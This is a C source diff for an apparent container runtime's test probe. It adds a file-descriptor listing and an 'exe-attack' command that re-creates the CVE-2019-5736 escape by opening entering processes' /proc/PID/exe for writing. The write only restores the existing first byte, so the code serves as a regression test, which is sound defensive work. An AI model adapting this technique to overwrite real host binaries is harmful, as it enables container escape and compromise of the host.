@@ -473,6 +473,20 @@ static void json_rlimits_fds(void)
 		if (de->d_name[0] != '.' && atoi(de->d_name) != self)
 			j_int(atoi(de->d_name));
 	j_close(']');
+	/* What each fd is (a file's path, pipe:[N], socket:[N], anon_inode:[...]): leak tests match every type. */
+	rewinddir(d);
+	j_key("fdTargets");
+	j_open('{');
+	while ((de = readdir(d)) != NULL) {
+		char link[64], target[PATH_MAX];
+		if (de->d_name[0] == '.' || atoi(de->d_name) == self)
+			continue;
+		snprintf(link, sizeof link, "/proc/self/fd/%s", de->d_name);
+		ssize_t n = readlink(link, target, sizeof target - 1);
+		target[n < 0 ? 0 : n] = 0;
+		k_str(de->d_name, target);
+	}
+	j_close('}');
 	closedir(d);
 }
 
@@ -655,6 +669,136 @@ static int cmd_getpid_loop(char **a)
 	for (long long i = 0; i < n; i++)
 		syscall(SYS_getpid); /* a real kernel entry each time */
 	printf("{\"n\":%lld,\"ns\":%lld}\n", n, now_ns() - t0);
+	return 0;
+}
+
+/*
+ * exe-attack SECONDS: the CVE-2019-5736 attacker, as pid 1 of a container, for the
+ * runtime's regression test. It spins on the next pids of its pid namespace and,
+ * for every process whose /proc/PID/exe is not this probe (one entering the
+ * container: `hako exec`), opens the exe for writing, and keeps an O_PATH fd of it
+ * to reopen for writing through /proc/self/fd later (after the process has moved
+ * on). A write puts back the byte already at offset 0, so a runtime that loses
+ * still keeps its files intact. Lines on stdout:
+ *   seen DEV:INO            an exe was reachable
+ *   wrote HOW DEV:INO       an exe was written (direct, reopen)
+ *   refused HOW DEV:INO E   opened but the write failed with errno E
+ *   closed HOW E            the open for writing failed with errno E
+ *   summary ATTEMPTS DENIED (denied: /proc/PID/exe refused, as for a non-dumpable process)
+ * It stops after SECONDS or once /attack-stop exists.
+ */
+#define ATTACK_MAX 256
+static struct { dev_t dev; ino_t ino; } a_seen[ATTACK_MAX];
+static int a_nseen;
+static char a_said[ATTACK_MAX][96];
+static int a_nsaid;
+
+static void attack_say(const char *line)
+{
+	for (int i = 0; i < a_nsaid; i++)
+		if (strcmp(a_said[i], line) == 0)
+			return;
+	if (a_nsaid < ATTACK_MAX)
+		snprintf(a_said[a_nsaid++], sizeof a_said[0], "%s", line);
+	printf("%s\n", line);
+	fflush(stdout);
+}
+
+static void attack_write(const char *path, const char *how)
+{
+	char line[96];
+	int fd = open(path, O_RDWR | O_CLOEXEC);
+	if (fd < 0) {
+		snprintf(line, sizeof line, "closed %s %d", how, errno);
+		attack_say(line);
+		return;
+	}
+	struct stat st;
+	unsigned char byte;
+	if (fstat(fd, &st) == 0 && pread(fd, &byte, 1, 0) == 1) {
+		if (pwrite(fd, &byte, 1, 0) == 1)
+			snprintf(line, sizeof line, "wrote %s %llu:%llu", how, (unsigned long long)st.st_dev, (unsigned long long)st.st_ino);
+		else
+			snprintf(line, sizeof line, "refused %s %llu:%llu %d", how, (unsigned long long)st.st_dev, (unsigned long long)st.st_ino, errno);
+		attack_say(line);
+	}
+	close(fd);
+}
+
+static int cmd_exe_attack(char **a)
+{
+	double d = parse_seconds(a[0]);
+	pid1_exit_on_signals();
+	long long end = d < 0 ? -1 : now_ns() + (long long)(d * 1e9);
+	struct stat self;
+	if (stat("/proc/self/exe", &self) < 0)
+		return fail("stat", "/proc/self/exe");
+	int held[ATTACK_MAX], nheld = 0;
+	long long attempts = 0, denied = 0;
+	/* Pids up to `done` have finished entering (their exe is this probe) or are gone. */
+	int done = getpid();
+	char path[64], line[96];
+	for (unsigned long iter = 0;; iter++) {
+		if (iter % 2048 == 0) {
+			if ((end >= 0 && now_ns() >= end) || access("/attack-stop", F_OK) == 0)
+				break;
+			/* Reopen what was held: the process behind it has had time to exec or exit. */
+			for (int i = 0; i < nheld; i++) {
+				snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
+				attack_write(path, "reopen");
+				close(held[i]);
+			}
+			nheld = 0;
+			DIR *dir = opendir("/proc");
+			struct dirent *e;
+			while (dir && (e = readdir(dir))) {
+				int pid = atoi(e->d_name);
+				struct stat st;
+				snprintf(path, sizeof path, "/proc/%d/exe", pid);
+				if (pid > done && stat(path, &st) == 0 && st.st_dev == self.st_dev && st.st_ino == self.st_ino)
+					done = pid;
+			}
+			if (dir)
+				closedir(dir);
+		}
+		/* The next pids: an entering process gets one of them. Watched until its exe is this probe. */
+		for (int pid = done + 1; pid <= done + 3; pid++) {
+			snprintf(path, sizeof path, "/proc/%d/exe", pid);
+			int fd = open(path, O_PATH | O_CLOEXEC);
+			if (fd < 0) {
+				if (errno == EACCES || errno == EPERM)
+					denied++;
+				continue;
+			}
+			struct stat st;
+			if (fstat(fd, &st) < 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino)) {
+				close(fd);
+				if (pid > done)
+					done = pid;
+				continue;
+			}
+			attempts++;
+			int known = 0;
+			for (int i = 0; i < a_nseen; i++)
+				known |= a_seen[i].dev == st.st_dev && a_seen[i].ino == st.st_ino;
+			if (!known && a_nseen < ATTACK_MAX) {
+				a_seen[a_nseen].dev = st.st_dev;
+				a_seen[a_nseen++].ino = st.st_ino;
+				snprintf(line, sizeof line, "seen %llu:%llu", (unsigned long long)st.st_dev, (unsigned long long)st.st_ino);
+				attack_say(line);
+			}
+			attack_write(path, "direct");
+			if (nheld < ATTACK_MAX)
+				held[nheld++] = fd;
+			else
+				close(fd);
+		}
+	}
+	for (int i = 0; i < nheld; i++) {
+		snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
+		attack_write(path, "reopen");
+	}
+	printf("summary %lld %lld\n", attempts, denied);
 	return 0;
 }
 
@@ -969,6 +1113,7 @@ static const struct {
 	{"sleep", 1, 1, cmd_sleep, "SECONDS|inf: sleep; as pid 1, exit 128+n on HUP/INT/TERM"},
 	{"spin", 1, 1, cmd_spin, "SECONDS|inf: busy loop; as pid 1, like sleep"},
 	{"getpid-loop", 1, 1, cmd_getpid_loop, "N: time N raw getpid calls: {n,ns}"},
+	{"exe-attack", 1, 1, cmd_exe_attack, "SECONDS: the CVE-2019-5736 attacker (runtime tests)"},
 	{"env", 1, 1, cmd_env, "NAME: print $NAME (exit 1 if unset)"},
 	{"echo", 0, -1, cmd_echo, "WORD...: print the words"},
 	{"cat", 0, -1, cmd_cat, "[PATH|-]...: copy files to stdout (none: stdin)"},
